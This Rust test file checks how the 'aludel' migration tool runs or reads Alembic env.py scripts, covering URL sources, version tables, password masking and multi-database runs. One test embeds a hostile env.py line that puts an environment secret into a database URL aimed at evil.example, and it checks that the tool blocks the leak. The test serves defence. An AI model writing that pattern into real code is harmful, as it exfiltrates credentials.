//! env.py: what it configures is found and used. `tests/golden/env_py` holds those of Alembic 1.20's templates (MIT licence), unchanged.

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;

struct Project(tempfile::TempDir);

const INI: &str = "[alembic]\nscript_location = %(here)s/mig\nsqlalchemy.url = sqlite:///ini.db\n";

const SCRIPT: &str = "\"\"\"first\"\"\"\nfrom alembic import op\nimport sqlalchemy as sa\n\nrevision = 'a1'\ndown_revision = None\n\n\
    def upgrade():\n    op.create_table('t', sa.Column('id', sa.Integer))\n\n\ndef downgrade():\n    op.drop_table('t')\n";

impl Project {
    fn new(env_py: &str) -> Self {
        let project = Self(tempfile::tempdir().unwrap());
        std::fs::create_dir_all(project.path().join("mig/versions")).unwrap();
        project.with("alembic.ini", INI).with("mig/env.py", env_py).with("mig/versions/a1.py", SCRIPT)
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn with(self, name: &str, text: &str) -> Self {
        std::fs::write(self.path().join(name), text).unwrap();
        self
    }

    fn run_with(&self, variables: &[(&str, &str)], args: &[&str]) -> (Option<i32>, String, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_aludel"));
        for variable in ["ALUDEL_URL", "DATABASE_URL", "ALEMBIC_CONFIG", "SHOP_URL"] {
            command.env_remove(variable);
        }
        command.envs(variables.iter().copied());
        let done = command.current_dir(self.path()).args(args).output().unwrap();
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        (done.status.code(), text(&done.stdout), text(&done.stderr))
    }

    fn run(&self, args: &[&str]) -> (Option<i32>, String, String) {
        self.run_with(&[], args)
    }

    #[track_caller]
    fn succeeds(&self, args: &[&str]) -> String {
        let (status, stdout, stderr) = self.run(args);
        assert_eq!(status, Some(0), "{args:?}\n{stdout}{stderr}");
        stdout
    }

    fn doctor(&self, variables: &[(&str, &str)]) -> Doctor {
        let (_, stdout, stderr) = self.run_with(variables, &["doctor", "--offline", "--format", "json"]);
        Doctor(serde_json::from_str(&stdout).unwrap_or_else(|error| panic!("{error}\n{stdout}{stderr}")))
    }
}

struct Doctor(Value);

impl Doctor {
    /// A fact's value and whose word it is.
    fn fact(&self, name: &str) -> Option<(String, String)> {
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        let found = self.0["facts"].as_array().unwrap().iter().find(|fact| fact["name"] == name)?;
        Some((text(&found["value"]), text(&found["source"])))
    }

    #[track_caller]
    fn says(&self, name: &str, value: &str, source: &str) {
        assert_eq!(self.fact(name), Some((value.into(), source.into())), "{:#}", self.0);
    }

    #[track_caller]
    fn has_problem(&self, code: &str, line: u64) {
        let problems = self.0["problems"].as_array().unwrap();
        assert!(
            problems.iter().any(|told| told["code"] == code && told["line"].as_u64().unwrap_or(0) == line),
            "{:#}",
            self.0
        );
    }
}

const RUN: &str = "run in the sandbox, without a database";
const READ: &str = "read, not run: only its literals are known";

/// What most env.py do online, with these keywords for `configure` and for `run_migrations`.
fn online(before: &str, configure: &str, run: &str) -> String {
    format!(
        "import os\nfrom alembic import context\nfrom sqlalchemy import MetaData, create_engine, engine_from_config, pool\n\n{before}\n\
         config = context.config\nengine = engine_from_config(config.get_section(config.config_ini_section), prefix='sqlalchemy.')\n\
         with engine.connect() as connection:\n    context.configure(connection=connection, {configure})\n    \
         with context.begin_transaction():\n        context.run_migrations({run})\n"
    )
}

#[test]
fn alembics_own_templates_are_followed() {
    for env_py in [include_str!("../golden/env_py/generic.py"), include_str!("../golden/env_py/async.py")] {
        let project = Project::new(env_py);
        let doctor = project.doctor(&[]);
        doctor.says("env.py", RUN, "");
        doctor.says("version table", "alembic_version", "default");
        assert_eq!(doctor.fact("URL").unwrap().1, "sqlalchemy.url in alembic.ini");
        assert_eq!(doctor.0["problems"].as_array().unwrap().len(), 0, "{:#}", doctor.0);
        project.succeeds(&["upgrade", "head"]);
        assert_eq!(project.succeeds(&["current"]), "a1 (head)\n");
    }
}

#[test]
fn several_databases_are_migrated_one_by_one() {
    let script = "revision = 'a1'\ndown_revision = None\nfrom alembic import op\n\ndef upgrade(engine_name):\n    \
        globals()['upgrade_%s' % engine_name]()\n\ndef downgrade(engine_name):\n    pass\n\ndef upgrade_one():\n    \
        op.execute('CREATE TABLE of_one (id INTEGER)')\n\ndef upgrade_two():\n    op.execute('CREATE TABLE of_two (id INTEGER)')\n";
    let ini = "[alembic]\nscript_location = %(here)s/mig\ndatabases = one, two\n[one]\nsqlalchemy.url = sqlite:///one.db\n\
        [two]\nsqlalchemy.url = sqlite:///two.db\n";
    let project = Project::new(include_str!("../golden/env_py/multidb.py"))
        .with("alembic.ini", ini)
        .with("mig/versions/a1.py", script);
    let doctor = project.doctor(&[]);
    doctor.says("database one", "sqlite:///one.db", "");
    doctor.says("database two", "sqlite:///two.db", "");
    doctor.has_problem("database-choice", 0);
    let (status, _, told) = project.run(&["upgrade", "head"]);
    assert_eq!(status, Some(2), "{told}");
    assert!(told.contains("one, two") && told.contains("--database"), "{told}");
    let (status, _, told) = project.run(&["current", "--database", "three"]);
    assert_eq!(status, Some(2), "{told}");
    project.succeeds(&["upgrade", "head", "--database", "two"]);
    assert_eq!(project.succeeds(&["current", "--database", "two"]), "a1 (head)\n");
    assert_eq!(project.succeeds(&["current", "--database", "one"]), "");
    let two = std::fs::read(project.path().join("two.db")).unwrap();
    assert!(String::from_utf8_lossy(&two).contains("of_two") && !String::from_utf8_lossy(&two).contains("of_one"));
}

#[test]
fn the_version_table_and_the_arguments_are_env_pys() {
    let env_py = online("NAME = 'shop_' + 'version'", "version_table=NAME, version_table_pk=False", "who='ann'");
    let script =
        SCRIPT.replace("upgrade():\n", "upgrade(who):\n    op.execute(f\"CREATE TABLE of_{who} (id INTEGER)\")\n");
    let project = Project::new(&env_py).with("mig/versions/a1.py", &script);
    project.succeeds(&["upgrade", "head"]);
    let database = String::from_utf8_lossy(&std::fs::read(project.path().join("ini.db")).unwrap()).into_owned();
    assert!(database.contains("shop_version") && database.contains("of_ann"));
    assert!(!database.contains("alembic_version") && !database.contains("PRIMARY KEY"));
    assert_eq!(project.succeeds(&["current"]), "a1 (head)\n");
    let sql = project.succeeds(&["upgrade", "head", "--sql", "--dialect", "postgresql"]);
    assert!(sql.contains("INSERT INTO shop_version"), "{sql}");
}

#[test]
fn the_stronger_word_counts() {
    let env_py = online("", "version_table='of_env', render_as_batch=True", "");
    let ini = format!("{INI}version_table = of_ini\nversion_table_schema = main\n");
    let project = Project::new(&env_py).with("alembic.ini", &ini);
    project.doctor(&[]).says("version table", "main.of_env", "env.py");
    project.doctor(&[]).says("render_as_batch", "true", "env.py");
    let project = project.with("pyproject.toml", "[tool.aludel]\nversion_table = 'of_tool'\nrender_as_batch = false\n");
    project.doctor(&[]).says("version table", "main.of_tool", "aludel.toml or [tool.aludel]");
    project.doctor(&[]).says("render_as_batch", "false", "aludel.toml or [tool.aludel]");
    let project = project.with("aludel.toml", "version_table = 'of_file'\nurl = 'sqlite:///file.db'\n");
    let doctor = project.doctor(&[]);
    doctor.says("version table", "main.of_file", "aludel.toml or [tool.aludel]");
    assert_eq!(doctor.fact("URL").unwrap().1, "url in aludel.toml or [tool.aludel]");
    assert_eq!(project.doctor(&[("ALUDEL_URL", "sqlite:///x.db")]).fact("URL").unwrap().1, "ALUDEL_URL");
}

#[test]
fn a_url_from_the_environment_is_resolved_outside_the_sandbox() {
    let env_py = online("context.config.set_main_option('sqlalchemy.url', os.environ['SHOP_URL'])", "", "");
    let project = Project::new(&env_py);
    let doctor = project.doctor(&[("SHOP_URL", "postgresql://ann:hunter2@db.example/shop")]);
    doctor.says("env.py", RUN, "");
    doctor.says("URL", "postgresql://ann:***@db.example/shop", "SHOP_URL, as env.py asks");
    assert!(!doctor.0.to_string().contains("hunter2"));
    // Unset, env.py fails as it does in Alembic, and the ini's URL is not silently taken for its own.
    let doctor = project.doctor(&[]);
    doctor.says("env.py", READ, "");
    doctor.has_problem("script-raised", 5);
    doctor.has_problem("url-note", 0);
}

#[test]
fn a_default_counts_only_where_the_variable_is_not_set() {
    let env_py = online("url = os.getenv('SHOP_URL') or 'sqlite:///default.db'\nengine_url = url", "", "").replace(
        "engine = engine_from_config(config.get_section(config.config_ini_section), prefix='sqlalchemy.')",
        "engine = create_engine(url)",
    );
    let project = Project::new(&env_py);
    assert_eq!(project.doctor(&[]).fact("URL").unwrap().1, "env.py");
    assert!(project.doctor(&[]).fact("URL").unwrap().0.ends_with("default.db"));
    let doctor = project.doctor(&[("SHOP_URL", "sqlite:///set.db")]);
    assert!(doctor.fact("URL").unwrap().0.ends_with("set.db"), "{:#}", doctor.0);
}

#[test]
fn secrets_of_the_environment_cannot_be_sent_to_a_host_that_env_py_chooses() {
    let before = "secret = os.environ['SHOP_URL']\n\
        context.config.set_main_option('sqlalchemy.url', f'postgresql://x:{secret}@evil.example/db')";
    let doctor = Project::new(&online(before, "", "")).doctor(&[("SHOP_URL", "hunter2")]);
    assert!(!doctor.0.to_string().contains("hunter2"), "{:#}", doctor.0);
    assert_eq!(doctor.fact("URL").unwrap().1, "sqlalchemy.url in alembic.ini");
    doctor.has_problem("url-note", 0);
    // Nor is any variable printed because it is no URL.
    let before = "context.config.set_main_option('sqlalchemy.url', os.environ['SHOP_URL'])";
    let doctor = Project::new(&online(before, "", "")).doctor(&[("SHOP_URL", "hunter2")]);
    assert!(!doctor.0.to_string().contains("hunter2") && doctor.0["usable"] == false, "{:#}", doctor.0);
}

#[test]
fn env_py_never_sees_a_password_of_the_configuration() {
    let before = "raise RuntimeError(context.config.get_main_option('sqlalchemy.url'))";
    let ini = INI.replace("sqlite:///ini.db", "postgresql://ann:hunter2@db.example/shop");
    let project = Project::new(&online(before, "", "")).with("alembic.ini", &ini);
    let doctor = project.doctor(&[]);
    doctor.has_problem("script-raised", 5);
    assert!(!doctor.0.to_string().contains("hunter2"), "{:#}", doctor.0);
    // What it makes of it has the password again.
    let before = "context.config.set_main_option('sqlalchemy.url', \
        context.config.get_main_option('sqlalchemy.url').replace('db.example', 'replica.example'))";
    let doctor = Project::new(&online(before, "", "")).with("alembic.ini", &ini).doctor(&[]);
    doctor.says("URL", "postgresql://ann:***@replica.example/shop", "env.py");
}

#[test]
fn what_the_application_decides_is_read_where_it_can_be_and_refused_where_it_must() {
    let env_py =
        online("from shop.settings import settings\nif settings.DEBUG:\n    pass", "version_table='literal'", "");
    let doctor = Project::new(&env_py).doctor(&[]);
    doctor.says("env.py", READ, "");
    doctor.says("version table", "literal", "env.py");
    doctor.has_problem("opaque-value", 6);
    let env_py = online("from shop.settings import settings", "version_table=settings.TABLE", "");
    let project = Project::new(&env_py);
    project.doctor(&[]).has_problem("version-table-unknown", 9);
    let (status, _, told) = project.run(&["current"]);
    assert_eq!(status, Some(1), "{told}");
    assert!(told.contains("aludel.toml"), "{told}");
    let project = project.with("aludel.toml", "version_table = 'mine'\n");
    assert_eq!(project.succeeds(&["current"]), "");
}

#[test]
fn looking_at_the_history_runs_no_env_py() {
    let project = Project::new("while True:\n    pass\n");
    let start = Instant::now();
    assert_eq!(project.succeeds(&["heads"]), "a1 (head)\n");
    project.succeeds(&["history"]);
    project.succeeds(&["show", "a1"]);
    assert!(start.elapsed() < Duration::from_secs(5));
}

#[test]
fn x_arguments_reach_env_py() {
    let env_py =
        online("table = context.get_x_argument(as_dictionary=True).get('table', 'none')", "version_table=table", "");
    let project = Project::new(&env_py);
    let (_, told, _) = project.run(&["doctor", "--offline", "-x", "table=tenant"]);
    assert!(told.contains("tenant  (env.py)"), "{told}");
}

#[test]
fn the_naming_convention_names_what_scripts_leave_unnamed() {
    let before =
        "convention = {'uq': 'uq_%(table_name)s_%(column_0_name)s', 'ck': 'ck_%(table_name)s_%(constraint_name)s'}";
    let env_py = online(before, "target_metadata=MetaData(naming_convention=convention)", "");
    let script = SCRIPT.replace(
        "    op.create_table('t', sa.Column('id', sa.Integer))\n",
        "    op.create_unique_constraint(None, 't', ['id'])\n    op.create_check_constraint('big', 't', 'n < 9')\n    \
         op.drop_constraint('big', 't', type_='check')\n    op.create_check_constraint(op.f('final'), 't', 'n > 1')\n",
    );
    let project = Project::new(&env_py).with("mig/versions/a1.py", &script);
    let sql = project.succeeds(&["upgrade", "head", "--sql", "--dialect", "postgresql"]);
    // As the real Alembic writes them.
    for statement in [
        "ALTER TABLE t ADD CONSTRAINT uq_t_id UNIQUE (id);",
        "ALTER TABLE t ADD CONSTRAINT ck_t_big CHECK (n < 9);",
        "ALTER TABLE t DROP CONSTRAINT ck_t_big;",
        "ALTER TABLE t ADD CONSTRAINT final CHECK (n > 1);",
    ] {
        assert!(sql.contains(statement), "{sql}");
    }
}

#[test]
fn doctor_finds_what_is_in_the_way() {
    let project = Project::new(include_str!("../golden/env_py/generic.py"));
    let (status, told, _) = project.run(&["doctor"]);
    assert_eq!(status, Some(0), "{told}");
    assert!(told.contains("Nothing is in the way.") && told.contains("SQLite"), "{told}");
    assert!(!project.path().join("ini.db").exists());
    let (status, told, _) = project.run(&["doctor", "--url", "postgresql://ann:hunter2@127.0.0.1:1/shop"]);
    assert_eq!(status, Some(12), "{told}");
    assert!(!told.contains("hunter2") && told.contains("can't be asked"), "{told}");
    assert_eq!(project.run(&["doctor", "--offline", "--url", "postgresql://127.0.0.1:1/shop"]).0, Some(0));
}
